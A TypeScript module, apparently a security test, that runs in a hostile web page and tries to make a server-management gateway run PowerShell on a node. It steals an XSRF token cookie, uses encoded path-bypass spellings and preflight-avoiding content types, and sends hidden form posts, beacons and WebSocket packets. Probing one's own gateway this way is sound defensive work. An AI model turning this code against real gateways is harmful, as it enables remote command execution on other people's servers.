/** What a page of somebody else can send from a browser. Runs inside that page, so it uses nothing from outside of its own function. */

/** What is attacked, and with what. */
export interface Attack {
    /** http://NAME:PORT of the gateway, under the name by which the page reaches it. */
    readonly target: string;
    /** A batch that runs a command on `node`. */
    readonly node: string;
    /** The cookie of the gateway that holds its token: pages on another port of the same name read it. */
    readonly tokenCookie: string;
    readonly module: string;
}

/** What the page could read of the gateway's answers: an attack whose answer stays hidden is judged by what has run. */
export interface Loot {
    /** `METHOD path: status` of each readable answer that was no refusal. */
    readonly answered: readonly string[];
    /** URLs of sockets that were opened. */
    readonly sockets: readonly string[];
    /** How many requests were tried. */
    readonly tried: number;
}

/** Sends everything that a page may send, waits for all of it, and says what came back. */
export async function attack({ target, node, tokenCookie, module }: Attack): Promise<Loot> {
    const answered: string[] = [];
    const sockets: string[] = [];
    let tried = 0;
    const properties = { script: 'Invoke-Hostile', command: 'Get-Thing', module, parameters: {} };
    const json = JSON.stringify({ properties });
    const restV1 = `nodes/${node}/features/powershellApi/invokeCommand`;
    const restV2 = `services/WinREST/PowerShell/nodes/${node}/invokeCommand`;
    const part = (address: string): string =>
        ['--X', 'Content-Type: application/http; msgtype=request', '', `POST ${address} HTTP/1.1`, 'request-id: 1', '', json, '--X--', ''].join('\r\n');
    const batch = part(`/api/${restV1}`);
    const scenario = JSON.stringify({ scenario: { estate: 'large', latencyMs: null, faults: [] }, restart: true });
    // Different spellings of the same addresses, as far as a browser sends them as they are.
    const spellings = (rest: string): string[] => [
        `/api/${rest}`,
        `/%61pi/${rest}`,
        `/a%70i/${rest}`,
        `//api/${rest}`,
        `/API/${rest}`,
        `/api%2f${rest}`,
        `/x/..%2fapi/${rest}`
    ];
    const requests = [
        ...[...spellings('batch'), '/%61pi/%62atch'].map(path => ({ method: 'POST', path, body: batch })),
        ...[...spellings(restV1), ...spellings(restV2)].map(path => ({ method: 'POST', path, body: json })),
        ...spellings(`services/WinREST/PowerShell/nodes/${node}/pssessions/hostile-newSession`).map(path => ({ method: 'PUT', path, body: json })),
        ...spellings('development/scenario').flatMap(path => ['PUT', 'POST'].map(method => ({ method, path, body: scenario })))
    ];
    const types = [
        null,
        'text/plain',
        'text/plain; boundary=X',
        'text/plain; application/json; boundary=X',
        'application/x-www-form-urlencoded; boundary=X',
        'multipart/form-data; boundary=X',
        // These need a preflight, which has to be refused.
        'multipart/mixed; boundary=X',
        'application/json',
        'application/json; charset=utf-8'
    ];
    const token = new RegExp(`(?:^|;\\s*)${tokenCookie}=([^;]+)`).exec(document.cookie)?.[1];
    const tokens = token === undefined ? [undefined] : [undefined, token];
    const note = (method: string, path: string, status: number): void => {
        if (status > 0 && status < 400) {
            answered.push(`${method} ${path}: ${status}`);
        }
    };
    const send = async (method: string, path: string, init: RequestInit): Promise<void> => {
        tried++;
        const answer = await fetch(target + path, { method, credentials: 'include', ...init }).catch(() => null);
        note(method, path, answer?.status ?? 0);
    };
    for (const { method, path, body } of requests) {
        const pending: Array<Promise<void>> = [];
        for (const type of types) {
            for (const known of tokens) {
                const headers = { ...(type ? { 'content-type': type } : {}), ...(known ? { 'x-xsrf-token': known } : {}) };
                // A body without a type: bytes have none of their own.
                const content = type === null ? new TextEncoder().encode(body) : body;
                pending.push(send(method, path, { mode: 'cors', headers, body: content }));
                if (method === 'POST') {
                    pending.push(send(method, path, { mode: 'no-cors', headers, body: content }));
                }
            }
        }
        await Promise.all(pending);
    }
    // What fetch may not send can be sent by a form and by a beacon.
    const form = async (path: string, enctype: string, name: string, value: string): Promise<void> => {
        tried++;
        const frame = document.createElement('iframe');
        frame.name = `frame-${tried}`;
        document.body.append(frame);
        const element = document.createElement('form');
        Object.assign(element, { action: target + path, method: 'post', enctype, target: frame.name });
        const field = document.createElement('textarea');
        Object.assign(field, { name, value });
        element.append(field);
        document.body.append(element);
        const loaded = new Promise(resolve => frame.addEventListener('load', resolve));
        element.submit();
        await loaded;
        frame.remove();
    };
    for (const path of ['/api/batch', '/%61pi/batch']) {
        await form(path, 'text/plain', batch, '');
        await form(path, 'multipart/form-data', 'x', batch);
        await form(path, 'application/x-www-form-urlencoded', 'x', batch);
    }
    for (const path of [`/api/${restV2}`, `/%61pi/${restV2}`, `/%61pi/development/scenario`]) {
        await form(path, 'text/plain', json.slice(0, -1), `,"x":1}`);
    }
    for (const path of ['/api/batch', '/%61pi/batch']) {
        for (const type of ['text/plain; boundary=X', 'multipart/mixed; boundary=X', 'multipart/form-data; boundary=X', 'application/json']) {
            tried++;
            navigator.sendBeacon(target + path, new Blob([batch], { type }));
        }
    }
    // Reading.
    for (const path of ['/api/connections', '/%61pi/connections', '/api/workitems', '/api/development', '/manifest.json', '/']) {
        await send('GET', path, { mode: 'cors' });
    }
    // Sockets need no preflight.
    const packet = {
        streamName: 'SME-PowerShell',
        state: 2,
        data: { id: '1', target: { nodeName: node, headers: {} }, requestState: 2, options: {}, ...properties }
    };
    const packets = [null, [], [null], 1, 'text', {}, { streamName: 'SME-PowerShell' }, { streamName: 'SME-PowerShell', data: [] }, packet].map(one =>
        JSON.stringify(one)
    );
    for (const path of [`/api/streams/socket/${module}`, `/api/services/WinStream/Stream/socket/${module}`, `/%61pi/streams/socket/${module}`]) {
        tried++;
        await new Promise<void>(resolve => {
            const socket = new WebSocket(target.replace('http', 'ws') + path);
            socket.onopen = (): void => {
                sockets.push(path);
                packets.forEach(text => socket.send(text));
            };
            let left = packets.length;
            socket.onmessage = (): unknown => --left === 0 && socket.close();
            socket.onclose = (): void => resolve();
        });
    }
    return { answered, sockets, tried };
}
